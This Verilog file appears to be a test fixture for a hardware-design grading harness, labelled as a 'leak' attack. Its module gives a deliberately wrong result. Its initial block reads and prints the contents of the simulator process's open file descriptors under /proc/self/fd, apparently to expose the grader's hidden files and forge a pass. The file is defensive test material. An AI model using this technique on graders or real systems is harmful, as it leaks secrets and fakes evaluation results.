// SPDX-License-Identifier: Apache-2.0
// attack: reads_open_files
// class: leak
// does: Reads whatever files its process has open, by number.
// must not: tell a secret.
// speed: fast
module TopModule(input clk, input rst, input [7:0] a, input [7:0] b, output reg [7:0] q);
    always @(posedge clk) q <= rst ? 8'd0 : a - b;  // wrong, so a pass is a forgery
    integer f, i, c, n;
    reg [8*32:1] name;
    initial for (i = 0; i < 24; i = i + 1) begin
        $sformat(name, "/proc/self/fd/%0d", i);
        f = $fopen(name, "r");
        n = 0;
        if (f != 0 && i > 2) begin
            c = $fgetc(f);
            while (c != -1 && n < 2000) begin
                $write("%c", c);
                c = $fgetc(f);
                n = n + 1;
            end
        end
    end
endmodule
